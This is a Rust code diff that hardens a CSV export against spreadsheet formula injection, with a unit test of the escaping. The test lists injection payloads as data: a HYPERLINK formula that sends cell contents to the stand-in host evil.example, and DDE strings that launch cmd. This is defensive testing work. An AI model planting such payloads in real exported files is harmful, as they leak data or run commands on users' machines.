@@ -50,9 +50,12 @@ pub async fn report(State(state): State<AppState>, session: Session, Query(param
     response
 }
 
-/// A field quoted as RFC 4180 asks when it needs to be.
-fn field(s: &str) -> String {
-    if s.contains([',', '"', '\n', '\r']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s.to_string() }
+/// A field quoted as RFC 4180 asks when it needs to be. A text a spreadsheet would run as a
+/// formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return: OWASP's list) is
+/// written after a `'`, so Excel and LibreOffice show it as text.
+pub fn field(s: &str) -> String {
+    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.to_string() };
+    if s.contains([',', '"', '\n', '\r']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s }
 }
 
 pub fn csv(report: &AuditReport) -> String {
@@ -92,4 +95,35 @@ pub fn csv(report: &AuditReport) -> String {
         }
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::field;
+
+    #[test]
+    fn formulas_are_written_as_text() {
+        let payloads = [
+            "=1+1",
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1:A9)",
+            "\t=1+1",
+            "\r=1+1",
+            "=cmd|' /C notepad'!'A1'",
+            "+SUM(1,2)",
+            "-@x",
+            "@@@",
+            "==x",
+        ];
+        for p in payloads {
+            let cell = field(p);
+            let unquoted = cell.strip_prefix('"').unwrap_or(&cell);
+            assert!(unquoted.starts_with('\''), "{p:?} became {cell:?}");
+        }
+        assert_eq!(field("头痛怎么办？"), "头痛怎么办？");
+        assert_eq!(field("a,b"), "\"a,b\"");
+        assert_eq!(field("1-2"), "1-2", "only a leading sign is a formula");
+    }
 }
